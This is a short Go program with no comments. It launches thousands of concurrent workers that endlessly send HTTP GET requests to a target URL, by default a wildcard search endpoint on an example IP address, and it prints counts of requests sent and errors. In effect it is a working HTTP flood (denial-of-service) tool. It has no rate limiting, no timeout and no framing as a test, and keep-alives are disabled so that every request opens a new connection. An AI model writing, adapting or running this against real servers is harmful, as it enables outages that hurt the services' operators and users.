package main

import (
	"flag"
	"fmt"
	"net/http"
	"sync/atomic"
	"time"
)

func main() {
	url := flag.String("url", "http://203.0.113.15/api/v1/search?q=%2A", "target")
	workers := flag.Int("c", 4096, "concurrent workers")
	flag.Parse()

	var sent, errs int64
	tr := &http.Transport{MaxIdleConns: 0, DisableKeepAlives: true}
	cl := &http.Client{Transport: tr, Timeout: 0}

	for i := 0; i < *workers; i++ {
		go func() {
			for {
				resp, err := cl.Get(*url)
				atomic.AddInt64(&sent, 1)
				if err != nil {
					atomic.AddInt64(&errs, 1)
					continue
				}
				resp.Body.Close()
			}
		}()
	}
	for range time.Tick(10 * time.Second) {
		fmt.Printf("sent=%d errs=%d\n", atomic.LoadInt64(&sent), atomic.LoadInt64(&errs))
	}
}
